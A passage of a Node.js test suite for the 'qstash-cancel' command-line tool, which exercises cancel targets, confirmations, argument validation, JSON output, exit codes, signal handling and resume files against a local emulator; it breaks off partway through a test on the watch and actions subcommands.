// The `qstash-cancel` command as installed from the packed tarball, spawned against the
// emulator: every target, dry runs, confirmations (stdin scripted), --json, exit codes, Ctrl-C
// with a resume file, and the progress bar in a real pseudo-terminal (`script`).
import test from 'node:test';
import assert from 'node:assert/strict';
import { spawn, execFile, execFileSync } from 'node:child_process';
import { promisify } from 'node:util';
import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { startEmulator, seedRuns, cancelledIds, getLog, injectFaults, freshToken, setBulkSpeed, seedActions } from './helpers.mjs';
import { leakIn } from './scenarios.mjs';
import { tokenFingerprint } from 'qstash-cancel';

const app = fileURLToPath(new URL('.', import.meta.url));
const bin = join(app, 'node_modules/.bin/qstash-cancel');
const work = mkdtempSync(join(tmpdir(), 'qstash-cancel-cli-'));

let emulator;
test.before(async () => (emulator = await startEmulator()));
test.after(() => emulator.close());

const runs = [
  { id: 'c1', workflowUrl: 'https://app.test/api/report', label: 'nightly', createdAt: 1_700_000_000_000 },
  { id: 'c2', workflowUrl: 'https://app.test/api/report', label: 'adhoc', createdAt: 1_700_000_100_000 },
  { id: 'c3', workflowUrl: 'https://app.test/api/billing', label: 'nightly', createdAt: 1_700_000_200_000 },
];

/** A fresh account seeded with `seed`; its token, shaped like the service's. */
async function account(seed = runs) {
  const token = `${freshToken('cli')}/+Zm9v=`;
  await seedRuns(emulator.url, token, seed);
  return token;
}

/** Runs the command; resolves to `{ code, stdout, stderr }`, checking the token never shows. */
function cli(args, { token, stdin = '', env = {}, onStderr } = {}) {
  return new Promise((resolve, reject) => {
    const child = spawn(bin, args, {
      cwd: work,
      env: { PATH: process.env.PATH, QSTASH_TOKEN: token, QSTASH_URL: emulator.url, ...env },
    });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d) => (stdout += d));
    child.stderr.on('data', (d) => {
      stderr += d;
      onStderr?.(stderr, child);
    });
    child.on('error', reject);
    child.on('close', (code) => {
      if (token) assert.equal(leakIn(stdout + stderr, token), undefined, 'the token leaked into the output');
      resolve({ code, stdout, stderr });
    });
    child.stdin.end(stdin);
  });
}

test('npx qstash-cancel --help lists the flags and the exit codes', () => {
  const help = execFileSync('npx', ['--no-install', 'qstash-cancel', '--help'], { cwd: app, encoding: 'utf8' });
  // Each value named for what it is, as gh and kubectl do: a file, a URL, milliseconds.
  for (const usage of ['--ids-from FILE', '--workflow-url URL', '--from TIME', '--timeout MS', '--count N', '--encoding query|body', '--token-file FILE']) {
    assert.match(help, new RegExp(`\\n {6}${usage.replace(/[|]/g, '\\$&')} +\\S`), usage);
  }
  assert.doesNotMatch(help, /VALUE/);
  assert.match(help, /130 {2}ABORTED/);
  assert.doesNotMatch(help, /--token VALUE/);
});

test('each target cancels exactly what it names', async () => {
  const cases = [
    [['--id', 'c1', '--id', 'c3'], ['c1', 'c3']],
    [['--workflow-url', 'https://app.test/api/report', '--label', 'adhoc', '--yes'], ['c2']],
    [['--workflow-url', 'https://app.test/api/report', '--exact', '--yes'], ['c1', 'c2']],
    [['--label', 'nightly', '--from', '2023-11-14T22:13:20Z', '--to', '1700000150000', '--yes'], ['c1']],
    [['--label', 'nightly', '--encoding', 'body', '--yes'], ['c1', 'c3']],
    [['--all', '--yes-cancel-all'], ['c1', 'c2', 'c3']],
  ];
  for (const [args, want] of cases) {
    const token = await account();
    const { code, stdout } = await cli(args, { token });
    assert.equal(code, 0, args.join(' '));
    assert.match(stdout, new RegExp(`^Cancelled ${want.length} runs?`));
    assert.deepEqual(await cancelledIds(emulator.url, token), want, args.join(' '));
  }
});

test('--ids-from reads a file or stdin, one per line or separated by commas and spaces', async () => {
  let token = await account();
  writeFileSync(join(work, 'ids.txt'), 'c1, c2\n\n  c1\n');
  assert.equal((await cli(['--ids-from', 'ids.txt'], { token })).code, 0);
  assert.deepEqual(await cancelledIds(emulator.url, token), ['c1', 'c2']);
  token = await account();
  assert.equal((await cli(['--ids-from', '-'], { token, stdin: 'c3\n' })).code, 0);
  assert.deepEqual(await cancelledIds(emulator.url, token), ['c3']);
});

test('--dry-run prints the request and a curl, and sends nothing', async () => {
  const token = await account();
  const { code, stdout } = await cli(['--all', '--dry-run'], { token });
  assert.equal(code, 0);
  assert.match(stdout, /DELETE http:\/\/127\.0\.0\.1:\d+\/v2\/workflows\/runs\n {2}Authorization: Bearer \[redacted\]\n {2}Cancel-All-Runs: true/);
  assert.match(stdout, /curl -X DELETE .* \\\n {2}-H "Authorization: Bearer \$QSTASH_TOKEN" \\\n {2}-H 'Cancel-All-Runs: true'/);
  assert.equal((await getLog(emulator.url, token)).length, 0);
});

test('a filter cancel asks first: "n" (or no answer) sends nothing, "y" cancels', async () => {
  const token = await account();
  for (const stdin of ['n\n', '', 'yes please\n']) {
    const { code, stderr } = await cli(['--label', 'nightly'], { token, stdin });
    assert.equal(code, 3, JSON.stringify(stdin));
    assert.match(stderr, /This cancels every run matching label nightly, repeating until a pass cancels nothing\.\nAccount: .*\nGo on\? \[y\/N\] \nNot confirmed/);
  }
  assert.equal((await getLog(emulator.url, token)).length, 0);
  assert.equal((await cli(['--label', 'nightly'], { token, stdin: 'y\n' })).code, 0);
  assert.deepEqual(await cancelledIds(emulator.url, token), ['c1', 'c3']);
});

test('--all needs the typed phrase: "yes" and --yes are not enough', async () => {
  const token = await account();
  for (const [args, stdin] of [[['--all'], 'yes\n'], [['--all', '--yes'], ''], [['--all'], 'cancel every run!\n']]) {
    const { code, stderr } = await cli(args, { token, stdin });
    assert.equal(code, 3);
    assert.match(stderr, /Type "cancel every run" to go on/);
  }
  assert.equal((await getLog(emulator.url, token)).length, 0, 'nothing was sent');
  assert.equal((await cli(['--all'], { token, stdin: 'cancel every run\n' })).code, 0);
  assert.deepEqual(await cancelledIds(emulator.url, token), ['c1', 'c2', 'c3']);
});

test('argv is checked against the flag table, not read from Node\'s parser messages: each refusal names the flag or word as typed', async () => {
  const token = await account();
  const cases = [
    [['-q', '--all'], /^Refused \(INVALID_OPTIONS\): -q: is not a known flag/],
    [['-yq', '--label', 'x'], /^Refused \(INVALID_OPTIONS\): -q: is not a known flag/],
    [['--nope=1', '--all'], /^Refused \(INVALID_OPTIONS\): --nope: is not a known flag/],
    [['--label', 'x', '--count'], /^Refused \(INVALID_OPTIONS\): --count: needs a value after it \(see --help\)\n/],
    // A value that looks like a flag is a missing value, as parseArgs has it: --yes is not a label.
    [['--label', '--yes'], /^Refused \(INVALID_OPTIONS\): --label: needs a value after it \(see --help\)\n/],
    [['--all=true'], /^Refused \(INVALID_OPTIONS\): --all: takes no value \(see --help\)\n/],
    [['--label', 'x', '--once=1'], /^Refused \(INVALID_OPTIONS\): --once: takes no value \(see --help\)\n/],
    [['--label', 'x', 'stray'], /^Refused \(INVALID_OPTIONS\): stray: is not a flag; to name a run by id, write --id stray \(see --help\)\n/],
    // After --, everything is an argument: "--all" there is a word, never the flag.
    [['--id', 'c1', '--', '--all'], /^Refused \(INVALID_OPTIONS\): --all: is not a flag; to name a run by id, write --id --all \(see --help\)\n/],
  ];
  for (const [args, message] of cases) {
    const { code, stderr } = await cli(args, { token });
    assert.equal(code, 2, args.join(' '));
    assert.match(stderr, message, args.join(' '));
  }
  assert.equal((await getLog(emulator.url, token)).length, 0, 'nothing was sent');
  // A flag given twice keeps its last value, as parseArgs does; a trailing -- is nothing.
  const twice = await cli(['--label', 'x', '--encoding', 'body', '--encoding', 'query', '--dry-run', '--json', '--'], { token });
  assert.equal(twice.code, 0, twice.stderr);
  assert.match(JSON.parse(twice.stdout).url, /\?label=x$/);
  // - alone is a value (stdin), not a flag.
  const stdin = await cli(['--ids-from', '-', '--dry-run', '--json'], { token, stdin: 'c1\n' });
  assert.equal(stdin.code, 0, stdin.stderr);
});

test('refusals name the flag, send nothing, and exit 2; the token is never a flag', async () => {
  const token = await account();
  const cases = [
    [['--from', '1700000000', '--yes'], /^Refused \(INVALID_OPTIONS\): --from: must be Unix milliseconds, and this looks like seconds/],
    [['--from', 'yesterday', '--yes'], /^Refused \(INVALID_OPTIONS\): --from: is not a time: give an ISO date such as 2026-12-06T09:00:00Z, or Unix milliseconds \(got "yesterday"\)\n/],
    [['--id', 'c1', '--id', ''], /^Refused \(INVALID_OPTIONS\): --id item 2: must not be empty/],
    [['--id', 'c1', '--label', 'x'], /^Refused \(INVALID_OPTIONS\): --label: cannot be combined with --id\/--ids-from/],
    [['--concurrency', 'lots', '--id', 'c1'], /^Refused \(INVALID_OPTIONS\): --concurrency: must be a whole number written in digits \(got "lots"\)/],
    [['--concurrency', '99', '--id', 'c1'], /^Refused \(INVALID_OPTIONS\): --concurrency: must be an integer from 1 to 16/],
    [['--lable', 'x'], /^Refused \(INVALID_OPTIONS\): --lable: is not a known flag; did you mean --label\? \(see --help\)/],
    [['--workflow-ulr', 'x'], /did you mean --workflow-url\?/],
    // The flag and what to do, in the CLI's words, not Node's parser's ("Option '--label <value>' argument missing").
    [['--zzzzzzzz'], /^Refused \(INVALID_OPTIONS\): --zzzzzzzz: is not a known flag \(see --help\)\n/],
    [['--label'], /^Refused \(INVALID_OPTIONS\): --label: needs a value after it \(see --help\)\n/],
    [['--yes=1', '--label', 'x'], /^Refused \(INVALID_OPTIONS\): --yes: takes no value \(see --help\)\n/],
    [['wfr_123'], /^Refused \(INVALID_OPTIONS\): wfr_123: is not a flag; to name a run by id, write --id wfr_123 \(see --help\)\n/],
    [['--exact'], /^Refused \(INVALID_OPTIONS\): no target given: name runs with --id or --ids-from/],
    [['--encoding', 'query'], /^Refused \(INVALID_OPTIONS\): no target given/],
    [['--token', 'abc', '--all'], /^Refused \(INVALID_OPTIONS\): --token: is not accepted: a token on the command line lands in shell history/],
    [['--token-file', 'missing.txt', '--all'], /^Refused \(INVALID_OPTIONS\): --token-file: cannot read missing\.txt: there is no such file \(ENOENT\)/],
    // Numbers are parsed strictly, like the library's: no empty string as 0, no hex.
    [['--retries', '', '--id', 'c1'], /^Refused \(INVALID_OPTIONS\): --retries: must be a whole number written in digits \(got ""\)/],
    [['--concurrency', '0x10', '--id', 'c1'], /^Refused \(INVALID_OPTIONS\): --concurrency: must be a whole number written in digits \(got "0x10"\)/],
  ];
  for (const [args, message] of cases) {
    const { code, stderr } = await cli(args, { token });
    assert.equal(code, 2, args.join(' '));
    assert.match(stderr, message, args.join(' '));
  }
  const { code, stderr } = await cli(['--id', 'c1'], { env: { QSTASH_TOKEN: '', QSTASH_REGION: 'US_EAST_1' } });
  assert.equal(code, 2);
  assert.match(stderr, /US_EAST_1_QSTASH_TOKEN: is not set/);
  assert.equal((await getLog(emulator.url, token)).length, 0);
});

test('with --json every outcome has the same head: ok, code and message', async () => {
  const token = await account();
  const outcomes = [
    [['--label', 'nightly', '--dry-run', '--json'], '', 0, true, 'DRY_RUN'],
    [['--label', 'nightly', '--json'], 'n\n', 3, false, 'NOT_CONFIRMED'],
    [['--from', '1700000000', '--yes', '--json'], '', 2, false, 'INVALID_OPTIONS'],
    [['--label', 'adhoc', '--yes', '--async', '--json'], '', 0, true, 'STARTED'],
    [['--id', 'c1', '--json'], '', 0, true, 'DONE'],
    [['actions', '--json'], '', 0, true, 'LISTED'],
  ];
  for (const [args, stdin, exit, ok, code] of outcomes) {
    const result = await cli(args, { token, stdin });
    const json = JSON.parse(result.stdout);
    assert.deepEqual([result.code, json.ok, json.code, typeof json.message], [exit, ok, code, 'string'], args.join(' '));
    assert.deepEqual(Object.keys(json).slice(0, 3), ['ok', 'code', 'message'], args.join(' '));
  }
});

test('--token-file and --base-url connect without the environment', async () => {
  const token = await account();
  writeFileSync(join(work, 'token.txt'), `${token}\n`);
  const { code } = await cli(['--token-file', 'token.txt', '--base-url', emulator.url, '--id', 'c2'], { env: { QSTASH_TOKEN: '', QSTASH_URL: '' } });
  assert.equal(code, 0);
  assert.deepEqual(await cancelledIds(emulator.url, token), ['c2']);
});

test('--json prints one result; service failures have their own exit codes', async () => {
  let token = await account();
  let result = await cli(['--id', 'c1', '--json'], { token });
  assert.deepEqual([result.code, JSON.parse(result.stdout)], [0, {
    ok: true, code: 'DONE', message: 'Cancelled 1 run (1 request, 1 pass, 0 retries).',
    cancelled: 1, requests: 1, passes: 1, retries: 0, unconfirmed: 0, moreMayMatch: false, asked: 1,
    account: { baseUrl: emulator.url, tokenFingerprint: await tokenFingerprint(token), tokenFrom: 'QSTASH_TOKEN' },
  }]);
  result = await cli(['--id', 'c1', '--json'], { token: 'not-an-account-token' });
  const failure = JSON.parse(result.stdout);
  assert.deepEqual([result.code, failure.code, failure.status, failure.cancelled], [4, 'UNAUTHORIZED', 401, 0]);
  token = await account();
  await injectFaults(emulator.url, token, [{ status: 429, headers: { 'Retry-After': '3600' } }]);
  result = await cli(['--label', 'nightly', '--yes', '--json'], { token });
  assert.deepEqual([result.code, JSON.parse(result.stdout).code], [5, 'RATE_LIMITED']);
  await injectFaults(emulator.url, token, [{ status: 501, body: 'no' }]);
  result = await cli(['--label', 'nightly', '--yes'], { token });
  assert.equal(result.code, 6);
  result = await cli(['--id', 'c1', '--base-url', 'http://127.0.0.1:9', '--retries', '0'], { token });
  assert.equal(result.code, 7);
  assert.match(result.stderr, /^No answer from the service \(NETWORK_ERROR\): the request to http:\/\/127\.0\.0\.1:9 got no answer/);
});

test('Ctrl-C stops a long id list and tells confirmed, unconfirmed and not sent apart, true to the emulator; the printed command finishes the job', async () => {
  const ids = Array.from({ length: 3_000 }, (_, i) => `long_${String(i).padStart(4, '0')}`);
  const token = await account(ids.map((id) => ({ id, workflowUrl: 'https://app.test/api/bulk' })));
  writeFileSync(join(work, 'long.txt'), ids.join('\n'));
  // The second request is acted on at once but its answer is held back: when Ctrl-C comes, the
  // service has (most likely) cancelled it, and nothing told the command so.
  await injectFaults(emulator.url, token, [{ then: 'handle' }, { act: true, delayMs: 10_000 }]);
  let interrupted = false;
  const stopped = await cli(['--ids-from', 'long.txt', '--encoding', 'body', '--concurrency', '1', '--failed-ids-to', 'left.txt'], {
    token,
    onStderr: (text, child) => {
      if (!interrupted && /1,000 runs cancelled/.test(text)) {
        interrupted = true;
        child.kill('SIGINT');
      }
    },
  });
  assert.equal(stopped.code, 130, stopped.stderr);
  assert.match(stopped.stderr, new RegExp([
    'Stopped by Ctrl-C \\(ABORTED, SIGINT\\)\\.',
    '1,000 runs confirmed cancelled before this\\.',
    '1,000 ids not confirmed: sent without a confirming answer \\(the service may have cancelled them\\)\\.',
    '1,000 ids not cancelled: not sent, or refused by the service\\.',
    'The 2,000 ids not confirmed cancelled are in .*left\\.txt \\(sending them again is safe: a cancelled run is not cancelled twice\\)\\.',
    'To finish the job:',
    ' {2}\\S+ --ids-from .*left\\.txt --encoding body --concurrency 1\n',
  ].join('\n')));
  // Every word is true of the emulator: the confirmed ids are cancelled, the not-sent ones are
  // not, and the file holds exactly the ids not confirmed.
  const cancelled = new Set(await cancelledIds(emulator.url, token));
  assert.ok(ids.slice(0, 1_000).every((id) => cancelled.has(id)), 'confirmed');
  assert.ok(ids.slice(2_000).every((id) => !cancelled.has(id)), 'not cancelled');
  assert.deepEqual(readFileSync(join(work, 'left.txt'), 'utf8').trim().split('\n'), ids.slice(1_000));
  // Printed as it can be run again: here (not on PATH, not through npx) by the bin's own path.
  const [, program, rest] = /To finish the job:\n {2}(\S+) (.*)\n/.exec(stopped.stderr);
  assert.equal(program, bin);
  const resume = rest.split(' ');
  const finished = await cli(resume, { token });
  assert.equal(finished.code, 0, finished.stderr);
  assert.match(finished.stdout, new RegExp(`^Cancelled ${(3_000 - cancelled.size).toLocaleString('en-US')} of 2,000 runs asked`));
  assert.equal((await cancelledIds(emulator.url, token)).length, 3_000);
});

/** `n` runs labelled "nightly", oldest first. */
const nightly = (n) => Array.from({ length: n }, (_, i) => ({
  id: `n_${String(i).padStart(4, '0')}`, workflowUrl: 'https://app.test/api/report', label: 'nightly', createdAt: 1_700_000_000_000 + i,
}));

test('a filter cancel goes on until nothing matches: all 1,667 runs, though the service cancels 100 a request', async () => {
  const token = await account(nightly(1_667));
  const { code, stdout } = await cli(['--label', 'nightly', '--yes'], { token });
  assert.equal(code, 0);
  assert.match(stdout, /^Cancelled 1,667 runs \(18 requests, 18 passes, 0 retries\)\.\nThe last pass cancelled nothing: no matching run was left to cancel\.\nAccount: the token from QSTASH_TOKEN \(fingerprint \S+\) at http:\/\/127\.0\.0\.1:\d+\n$/);
  assert.equal((await cancelledIds(emulator.url, token)).length, 1_667);
});

test('--max-passes stops short with exit 8 and says the job is not finished; --once says more may match', async () => {
  let token = await account(nightly(1_667));
  const stopped = await cli(['--label', 'nightly', '--yes', '--max-passes', '3'], { token });
  assert.equal(stopped.code, 8, stopped.stderr);
  assert.match(stopped.stderr, /\nNot finished \(UNFINISHED\): the cancel stopped at --max-passes \(3\).*\n300 runs confirmed cancelled before this\.\nThe job is not finished: more runs may match\. Run the same cancel again, or raise --max-passes\.\n$/);
  assert.equal((await cancelledIds(emulator.url, token)).length, 300);
  token = await account(nightly(1_667));
  const once = await cli(['--label', 'nightly', '--yes', '--once'], { token });
  assert.equal(once.code, 0);
  assert.match(once.stdout, /^Cancelled 100 runs \(1 request, 1 pass, 0 retries\)\.\nMore runs may match/);
  assert.equal((await getLog(emulator.url, token)).length, 1);
  assert.equal((await cli(['--label', 'nightly', '--yes', '--once', '--until-done'], { token })).code, 2);
});

test('--max-requests stops at that many requests with exit 8; a list that cannot fit is refused before anything is sent', async () => {
  let token = await account(nightly(1_667));
  const stopped = await cli(['--label', 'nightly', '--yes', '--max-requests', '2'], { token });
  assert.equal(stopped.code, 8, stopped.stderr);
  assert.match(stopped.stderr, /\nNot finished \(UNFINISHED\): the call used all 2 requests --max-requests allows.*\n200 runs confirmed cancelled before this\.\nThe job is not finished: more runs may match\. Run the same cancel again, or raise --max-requests\.\n$/);
  assert.equal((await getLog(emulator.url, token)).length, 2);
  token = await account(nightly(3));
  const ids = Array.from({ length: 3_000 }, (_, i) => ['--id', `wfr_${i}`]).flat();
  const refused = await cli([...ids, '--encoding', 'body', '--max-requests', '2'], { token });
  assert.equal(refused.code, 2, refused.stderr);
  assert.match(refused.stderr, /--max-requests: is 2, and these 3000 ids take 3 requests before any retry/);
  assert.equal((await getLog(emulator.url, token)).length, 0);
});

test('--count caps the whole command; a request the service may have acted on is not sent again', async () => {
  let token = await account(nightly(500));
  const capped = await cli(['--label', 'nightly', '--yes', '--count', '250', '--json'], { token });
  const { message, ...rest } = JSON.parse(capped.stdout);
  assert.deepEqual(rest, { ok: true, code: 'DONE', cancelled: 250, requests: 1, passes: 1, retries: 0, unconfirmed: 0, moreMayMatch: true, account: rest.account });
  assert.match(message, /Stopped at 250 runs, the most --count allows: more runs may match\./);
  assert.equal((await cancelledIds(emulator.url, token)).length, 250);
  token = await account(nightly(500));
  await injectFaults(emulator.url, token, [{ act: true, status: 502, body: 'Bad Gateway' }]);
  const lost = await cli(['--label', 'nightly', '--yes', '--count', '10'], { token });
  assert.equal(lost.code, 6, lost.stderr);
  assert.match(lost.stderr, /\n0 runs confirmed cancelled before this\.\n1 request sent without a confirming answer: the service may have cancelled up to 10 more runs\.\nRunning the same command again may cancel up to --count 10 more runs\.\n$/);
  assert.equal((await getLog(emulator.url, token)).length, 1, 'sent once');
  assert.equal((await cancelledIds(emulator.url, token)).length, 10, 'never more than --count');
});

test('--count answered past its figure (a service that ignores count) promises no "up to --count" for the next run', async () => {
  const token = await account(nightly(30));
  await injectFaults(emulator.url, token, [{ act: true, status: 200, body: '{"cancelled":30}' }]);
  const over = await cli(['--label', 'nightly', '--yes', '--count', '10'], { token });
  assert.equal(over.code, 6, over.stderr);
  assert.match(over.stderr, /a count of 30 for a request that could cancel at most 10 runs if the service honours count/);
  assert.match(over.stderr, /\n1 request sent without a confirming answer: the service may have cancelled more runs than counted here\.\nThe service may not keep to --count: running the same command again may cancel every matching run\.\n$/);
  assert.doesNotMatch(over.stderr, /up to --count/);
  assert.equal((await getLog(emulator.url, token)).length, 1, 'sent once');
});

test('--host and --path filter on the workflow URL', async () => {
  const token = await account([
    { id: 'h1', workflowUrl: 'https://a.test/api/one' },
    { id: 'h2', workflowUrl: 'https://b.test/api/one' },
    { id: 'h3', workflowUrl: 'https://a.test/api/two' },
  ]);
  const { code, stderr } = await cli(['--host', 'a.test', '--host', 'b.test', '--path', '/api/one'], { token, stdin: 'y\n' });
  assert.equal(code, 0, stderr);
  assert.match(stderr, /every run matching host a\.test or b\.test, and path \/api\/one, repeating/);
  assert.deepEqual(await cancelledIds(emulator.url, token), ['h1', 'h2']);
  assert.equal((await getLog(emulator.url, token))[0].query, '?host=a.test&host=b.test&path=%2Fapi%2Fone');
});

/** Spawns the command and lets `act(child, stderrSoFar)` interfere; resolves to its exit code and output. */
function spawnCli(args, token, act) {
  return new Promise((resolve) => {
    const child = spawn(bin, args, { cwd: work, env: { PATH: process.env.PATH, QSTASH_TOKEN: token, QSTASH_URL: emulator.url } });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d) => (stdout += d));
    child.stderr.on('data', (d) => {
      stderr += d;
      act(child, stderr);
    });
    child.stdin.end();
    child.on('close', (code) => resolve({ code, stdout, stderr }));
  });
}

const bulk = (prefix, n) => Array.from({ length: n }, (_, i) => `${prefix}_${String(i).padStart(4, '0')}`);

test('a closed stderr or stdout (| head, a dropped session) does not stop a running cancel', async () => {
  for (const closed of ['stderr', 'stdout']) {
    const ids = bulk(`pipe${closed}`, 3_000);
    const token = await account(ids.map((id) => ({ id, workflowUrl: 'https://app.test/api/pipe' })));
    writeFileSync(join(work, 'pipe.txt'), ids.join('\n'));
    await injectFaults(emulator.url, token, [{ delayMs: 300 }, { delayMs: 300 }, { delayMs: 300 }].map((f) => ({ ...f, then: 'handle' })));
    let done = false;
    const { code } = await spawnCli(['--ids-from', 'pipe.txt', '--encoding', 'body', '--concurrency', '1', '--json'], token, (child) => {
      if (!done) {
        done = true;
        child[closed].destroy();
      }
    });
    assert.equal(code, 0, `with ${closed} closed`);
    assert.equal((await cancelledIds(emulator.url, token)).length, 3_000, `with ${closed} closed, every batch was still sent`);
  }
});

test('an unwritable --failed-ids-to loses no ids: they go to stdout, and into --json', async () => {
  const ids = bulk('lost', 2_500);
  for (const json of [false, true]) {
    const token = await account(ids.map((id) => ({ id, workflowUrl: 'https://app.test/api/lost' })));
    writeFileSync(join(work, 'lost.txt'), ids.join('\n'));
    await injectFaults(emulator.url, token, [{ then: 'handle' }, { status: 401, body: { error: 'Unauthorized' } }]);
    const args = ['--ids-from', 'lost.txt', '--encoding', 'body', '--concurrency', '1', '--failed-ids-to', '/nonexistent-dir/failed.txt'];
    const { code, stdout, stderr } = await cli(json ? [...args, '--json'] : args, { token });
    assert.equal(code, 4, stderr);
    if (json) {
      const result = JSON.parse(stdout);
      assert.deepEqual(result.failedRunIds, ids.slice(1_000));
      assert.equal(result.failedIdsFileError, 'cannot write /nonexistent-dir/failed.txt: a folder on its path does not exist (ENOENT)');
    } else {
      assert.match(stderr, /could not be saved: cannot write \/nonexistent-dir\/failed\.txt: a folder on its path does not exist \(ENOENT\)\. They follow on standard output/);
      assert.deepEqual(stdout.trim().split('\n'), ids.slice(1_000));
    }
  }
});

test('--ids-from takes 200,000 ids (a resume file of a large run)', async () => {
  const token = await account();
  writeFileSync(join(work, 'big.txt'), bulk('big', 200_000).map((id) => `${id}xxxxxxxxxxxxxxxxxxxx`).join('\n'));
  const { code, stdout, stderr } = await cli(['--ids-from', 'big.txt', '--dry-run'], { token });
  assert.equal(code, 0, stderr);
  assert.match(stdout, /Dry run: nothing was sent\. The request \(the first of \d+ requests\):/);
});

test('an endless --ids-from (yes | ..., /dev/zero) is refused at 128 MiB, not read until memory runs out', async () => {
  const token = await account();
  // stdin that never ends: a line of ids again and again, for as long as the command reads.
  const endless = await new Promise((resolve) => {
    const child = spawn(bin, ['--ids-from', '-', '--dry-run'], { cwd: work, env: { PATH: process.env.PATH, QSTASH_TOKEN: token, QSTASH_URL: emulator.url } });
    let stderr = '';
    child.stderr.on('data', (d) => (stderr += d));
    const line = Buffer.from('wfr_endless_0001 wfr_endless_0002\n'.repeat(4096));
    const feed = () => {
      while (child.stdin.writable && child.stdin.write(line));
      if (child.stdin.writable) child.stdin.once('drain', feed);
    };
    child.stdin.on('error', () => {});
    feed();
    child.on('close', (code) => resolve({ code, stderr }));
  });
  assert.equal(endless.code, 2, endless.stderr);
  assert.match(endless.stderr, /^Refused \(INVALID_OPTIONS\): --ids-from: stdin holds more than 128 MiB/);
  const zero = await cli(['--ids-from', '/dev/zero', '--dry-run'], { token });
  assert.equal(zero.code, 2, zero.stderr);
  assert.match(zero.stderr, /^Refused \(INVALID_OPTIONS\): --ids-from: \/dev\/zero holds more than 128 MiB/);
});

test('SIGTERM and SIGHUP stop a cancel like Ctrl-C: the ids not confirmed are saved, exit 128 + the signal', async () => {
  for (const [signal, exit] of [['SIGTERM', 143], ['SIGHUP', 129]]) {
    const ids = bulk(signal.toLowerCase(), 3_000);
    const token = await account(ids.map((id) => ({ id, workflowUrl: 'https://app.test/api/signal' })));
    writeFileSync(join(work, 'signal.txt'), ids.join('\n'));
    await injectFaults(emulator.url, token, [{ then: 'handle' }, { delayMs: 10_000 }]);
    let sent = false;
    const { code, stderr } = await spawnCli(['--ids-from', 'signal.txt', '--encoding', 'body', '--concurrency', '1', '--failed-ids-to', `${signal}.txt`], token, (child, text) => {
      if (!sent && /1,000 runs cancelled/.test(text)) {
        sent = true;
        child.kill(signal);
      }
    });
    assert.equal(code, exit, stderr);
    assert.match(stderr, /Stopped by (a termination signal|the terminal closing) \(ABORTED, SIG(TERM|HUP)\)/);
    assert.deepEqual(readFileSync(join(work, `${signal}.txt`), 'utf8').trim().split('\n'), ids.slice(1_000));
  }
});

test('under npx, a signal to npx alone does not reach the command; one to the process group (as Ctrl-C sends it) does', async () => {
  const ids = bulk('npx', 3_000);
  const run = async (target) => {
    const token = await account(ids.map((id) => ({ id, workflowUrl: 'https://app.test/api/npx' })));
    writeFileSync(join(work, 'npx.txt'), ids.join('\n'));
    await injectFaults(emulator.url, token, [{ then: 'handle' }, { delayMs: 1_500, then: 'handle' }]);
    const left = join(work, `npx-${target}.txt`);
    // detached: npx leads a process group of its own, like a job started from a shell.
    const npx = spawn('npx', ['--no-install', 'qstash-cancel', '--ids-from', join(work, 'npx.txt'), '--encoding', 'body', '--concurrency', '1', '--failed-ids-to', left], {
      cwd: app,
      detached: true,
      env: { PATH: process.env.PATH, HOME: process.env.HOME, QSTASH_TOKEN: token, QSTASH_URL: emulator.url },
    });
    let stderr = '';
    const exited = new Promise((resolve) => npx.on('exit', (code, signal) => resolve({ code, signal })));
    await new Promise((resolve) => npx.stderr.on('data', (d) => {
      stderr += d;
      if (/1,000 runs cancelled/.test(stderr)) resolve();
    }));
    process.kill(target === 'npx' ? npx.pid : -npx.pid, 'SIGINT');
    return { token, left, exit: await exited, stderr };
  };
  // To npx alone: the command goes on to the end, unstopped (npx waits for it, then exits).
  let { token, left, stderr } = await run('npx');
  assert.equal((await cancelledIds(emulator.url, token)).length, 3_000, stderr);
  assert.throws(() => readFileSync(left), /ENOENT/);
  // To the group: the command stops and saves the ids not confirmed.
  ({ token, left, stderr } = await run('group'));
  assert.match(stderr, /Stopped by Ctrl-C \(ABORTED, SIGINT\)/);
  assert.deepEqual(readFileSync(left, 'utf8').trim().split('\n'), ids.slice(1_000));
});

test('--async starts a filter cancel in the background; watch follows it to the end; actions lists them', async () => {
  const token = await account(bulk('bg', 200).map((id) => ({ id, workflowUrl: 'https://app.test/api/bg', label: 'bg' })));
  // Slow enough (4 s) that watch, started after two process launches, still sees it in progress.
  await setBulkSpeed(emulator.url, token, { perTick: 10, tickMs: 200 });
  const started = await cli(['--label', 'bg', '--async', '--yes'], { token });
  assert.equal(started.code, 0, started.stderr);
  const [, actionId] = /^Started bulk action (\S+): the service cancels the matching runs in the background\.\nAccount: .*\nFollow it with: \S+ watch \1\n$/.exec(started.stdout) ?? [];
  assert.ok(actionId, started.stdout);
  assert.equal((await getLog(emulator.url, token))[0].query, '?label=bg&async=true');
  const watched = await cli(['watch', actionId, '--poll', '100'], { token });
  assert.equal(watched.code, 0, watched.stderr);
  assert.match(watched.stdout, new RegExp(`^Bulk action ${actionId} finished: 200 of 200 runs? processed \\(created \\S+, finished \\S+\\)\\.\\n$`));
  // The progress is read by a person (scripts take --json): the state in words, not the service's constant.
  assert.match(watched.stderr, /of 200 runs processed · in progress\n[\s\S]*200 of 200 runs processed · finished\n/);
  assert.equal((await cancelledIds(emulator.url, token)).length, 200);
  const json = JSON.parse((await cli(['watch', actionId, '--json'], { token })).stdout);
  assert.deepEqual([json.ok, json.actionId, json.state, json.processed], [true, actionId, 'FINISHED', 200]);
  await cli(['--label', 'nothing-matches', '--yes'], { token });
  const table = await cli(['actions'], { token });
  assert.equal(table.code, 0, table.stderr);
  assert.match(table.stdout, /^ACTION ID +STATE +PROCESSED +CREATED +COMPLETED +FILTER\n/);
  assert.match(table.stdout, new RegExp(`${actionId} +FINISHED +200/200 .* --label bg\n`));
  const finished = JSON.parse((await cli(['actions', '--state', 'finished', '--json'], { token })).stdout);
  assert.equal(finished.bulkActions.length, 2, 'the async one and the plain filter cancel');
  assert.equal(JSON.parse((await cli(['actions', '--state', 'in-progress', '--json'], { token })).stdout).bulkActions.length, 0);
});

test('watch and actions refuse what does not apply to them, a file that cannot be read says why in words, and an unknown action id says so', async () => {
  const token = await account();
  const cases = [
    [['watch'], 2, /watch takes one action id/],
    [['watch', 'a', 'b'], 2, /watch takes one action id/],
